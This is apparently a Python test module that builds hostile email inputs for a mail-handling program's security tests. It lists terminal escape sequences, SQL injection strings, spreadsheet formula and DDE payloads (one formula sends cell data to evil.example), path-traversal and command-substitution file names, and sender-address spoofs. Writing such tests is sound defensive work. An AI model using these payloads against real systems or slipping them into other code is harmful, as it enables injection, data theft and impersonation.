"""Text that wants to be more than text: charsets, control characters, names, commands, queries, formulas."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from tests.hostile.attacks.attack import Attack, head, html, plain

if TYPE_CHECKING:
    from collections.abc import Iterator

CHARSETS = [
    "punycode",
    "idna",
    "rot13",
    "zlib",
    "bz2",
    "hex",
    "uu",
    "base64",
    "quopri",
    "undefined",
    "unicode_escape",
    "raw_unicode_escape",
    "string_escape",
    "mbcs",
    "oem",
    "utf-7",
    "utf-16",
    "utf-32",
    "utf-8-sig",
    "hz",
    "iso-2022-jp",
    "iso-2022-jp-2004",
    "iso-2022-kr",
    "big5hkscs",
    "euc-jisx0213",
    "cp65001",
    "x-unknown",
    "nope",
    "none",
    "../../etc/passwd",
    "%s%n",
    "NUL",
    "�",
]

TERMINAL = (
    "\x1b[2J\x1b[1;1H",  # clears the screen
    "\x1b]0;owned\x07",  # sets the title
    "\x1b]52;c;c2VjcmV0\x07",  # writes the clipboard
    "\x1b[8m",  # hides what follows
    "\x9b31m",  # C1: a control sequence in one character
    "\x9d0;owned\x9c",
    "\rover\r",
    "\b\b\b\b\b",
    "\x07",
    "\x0e\x0f",  # shifts the character set
    "\u202egpj.exe",  # turns the direction around
    "\u2066\u2069\u202a\u202c",
    "\u200b\u200c\u200d\ufeff\u00ad",
    "\u2028forged line\u2029",
    "\n<0>watcher: forged",
    "\r\n\r\nforged",
    "\0nul\0",
    "\ufff9\ufffa\ufffb\U000e0041\U000e007f",  # annotations and tags
    "z" + "\u0300" * 500,  # one letter, 500 accents
    "\U0001f469\u200d" * 200,
    "[bold red]markup[/bold red][/]",  # of rich
    "%(message)s %s %n {0} {0.__class__} ${PATH} `id` $(id)",
)

QUERIES = (
    "'; DROP TABLE newsletters; --",
    "' OR '1'='1",
    '" OR ""="',
    "Robert'); DELETE FROM messages;--",
    "x' UNION SELECT raw FROM messages --",
    "%' ESCAPE '!",
    "?1 :name @name $name",
    '"unclosed',
    "NEAR(a b, 3) AND NOT c OR d*",
    'subject:secret {from_name text} : x ^first + "p h"',
    "'main' (SELECT 1) ATTACH DATABASE 'x' AS y",
    "\ufffe\uffff\U0010ffff",
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=1+1","second cell',
)

FILE_NAMES = (
    "../../../../etc/cron.d/x",
    "/etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "C:\\boot.ini",
    "\\\\host.example\\share\\x",
    "..",
    ".",
    "",
    " ",
    "...",
    "~/.ssh/authorized_keys",
    ".bashrc",
    "-rf",
    "a\0b.txt",
    "a\r\nX-Injected: b.txt",
    "a\x1b[2Jb.txt",
    "photo_\u202egpj.exe",
    "\u2024\u2024\u2215etc\u2215passwd",  # looks like dots and slashes
    "CON",
    "nul.txt",
    "x.txt.",
    "x.txt:stream",
    "a" * 5_000 + ".pdf",
    "\U0001f4a9" * 300,
    "e\u0301" * 300,
    "<script>alert(1)</script>.html",
    "$(id).txt",
    "%2e%2e%2fpasswd",
    "file\u2028name.txt",
)

HOMOGRAPHS = (
    "news@\u0435xample.org",  # Cyrillic
    "news@xn--xample-2of.org",
    "news@example.org\u200b",
    "news@ex\u00e4mple.org",
    "news@example\u3002org",
    "news@example.org.",
    "news@EXAMPLE.ORG",
    '"news@example.org" <forger@example.com>',
    "news@example.org <forger@example.com>",
    "=?utf-8?q?news=40example=2Eorg?= <forger@example.com>",
    "news@example.org, forger@example.com",
    "(news@example.org) forger@example.com",
    "<news@example.org> <forger@example.com>",
    "news@example.org\0@example.com",
    "@example.com:news@example.org",
    "news@[127.0.0.1]",
    "news@" + "a" * 300 + ".example.org",
    "news@" + "a." * 5_000 + "org",
)


def word(text: str) -> bytes:
    """An encoded word (RFC 2047) with any character in it."""
    return b"=?utf-8?B?" + base64.b64encode(text.encode("utf-8", "surrogatepass")) + b"?="


def everywhere(text: str) -> bytes:
    """A mail that says this in each field that is shown, in both bodies, a link and a file name."""
    said = word(text)
    raw = text.encode("utf-8", "surrogatepass")
    markup = text.encode("utf-8", "surrogatepass").replace(b"<", b"&lt;")
    return b"\r\n".join(
        (
            head(
                b"Subject: " + said,
                b"From: " + said + b" <news@example.org>",
                b"List-Id: " + said + b" <list.example.org>",
                b"Message-ID: " + said,
                b"X-Mailer: " + said,
                b"X-Campaign: " + said,
                b"Received: from "
                + said
                + b" (x [192.0.2.1]) by mx.example.org; Sun, 1 Mar 2026 09:30:00 +0000",
                b"Authentication-Results: mx.example.org; dkim=pass reason=" + said,
                b"Content-Type: multipart/mixed; boundary=edge",
            ).rstrip(),
            b"",
            b"--edge",
            b"Content-Type: multipart/alternative; boundary=views",
            b"",
            b"--views",
            b"Content-Type: text/plain; charset=utf-8",
            b"",
            raw,
            b"--views",
            b"Content-Type: text/html; charset=utf-8",
            b"",
            b"<h1>" + markup + b'</h1><p>Words.</p><a href="https://example.com/' + b'">' + markup + b"</a>",
            b"--views--",
            b"--edge",
            b"Content-Type: application/octet-stream",
            b"Content-Disposition: attachment; filename=" + said,
            b"",
            b"data",
            b"--edge--",
            b"",
        )
    )


def named(name: str) -> bytes:
    """A mail with an attachment of this name, declared in each way that there is."""
    quoted = name.replace("\\", "\\\\").replace('"', '\\"').encode("utf-8", "surrogatepass")
    percent = "".join(f"%{byte:02X}" for byte in name.encode("utf-8", "surrogatepass")).encode()
    part = b"--edge\r\nContent-Disposition: attachment; filename%s\r\n\r\nx\r\n"
    parts = [part % (b'="' + quoted + b'"'), part % (b"*=utf-8''" + percent), part % (b"=" + word(name))]
    return (
        head(b"Subject: names", b"Content-Type: multipart/mixed; boundary=edge")
        + b"--edge\r\nContent-Type: text/plain\r\n\r\nSome words.\r\n"
        + b"".join(parts)
        + b"--edge--\r\n"
    )


def attacks() -> Iterator[Attack]:
    """Every attack by text."""
    for number, charset in enumerate(CHARSETS):
        label = charset.encode("utf-8", "surrogateescape")
        name = "".join(char if char.isalnum() else "_" for char in charset if char.isascii())
        yield Attack(
            f"charset-{number:02}-{name}-body",
            lambda c=label: plain(
                b'Content-Type: text/plain; charset="' + c + b'"', body=b"a-b\xff\x1b$B+2AA-" * 50_000
            ),
        )
        yield Attack(
            f"charset-{number:02}-{name}-word",
            lambda c=label: plain(b"Subject: =?" + c + b"?q?" + b"a-b=ff=1b$B+2AA-" * 3_000 + b"?="),
        )
        yield Attack(
            f"charset-{number:02}-{name}-name",
            lambda c=label: plain(b"Content-Disposition: attachment; filename*=" + c + b"''" + b"a%ff" * 300),
        )
    yield Attack(
        "charset-punycode-2MB",
        lambda: plain(b"Content-Type: text/plain; charset=punycode", body=b"a-b\xff" * 500_000),
    )
    yield Attack("charset-meta", lambda: html(b"<meta charset=punycode>" * 5_000 + b"\xff" * 500_000))
    yield Attack(
        "charset-long", lambda: plain(b"Content-Type: text/plain; charset=" + b"x" * 60_000, body=b"\xff")
    )
    yield Attack("charset-bom-utf16", lambda: plain(body=b"\xff\xfe" + b"\x00\xd8" * 500_000))
    for kind, texts in (("terminal", TERMINAL), ("query", QUERIES), ("formula", FORMULAS)):
        for number, text in enumerate(texts):
            yield Attack(f"text-{kind}-{number:02}", lambda t=text: everywhere(t))
    for number, name in enumerate(FILE_NAMES):
        yield Attack(f"name-{number:02}", lambda n=name: named(n))
    for number, author in enumerate(HOMOGRAPHS):
        yield Attack(f"author-{number:02}", lambda a=author: plain(b"From: " + a.encode()))
    yield Attack(
        "name-500-times",
        lambda: (
            head(b"Subject: names", b"Content-Type: multipart/mixed; boundary=edge")
            + b"--edge\r\nContent-Disposition: attachment; filename=same.txt\r\n\r\nx\r\n" * 450
        ),
    )
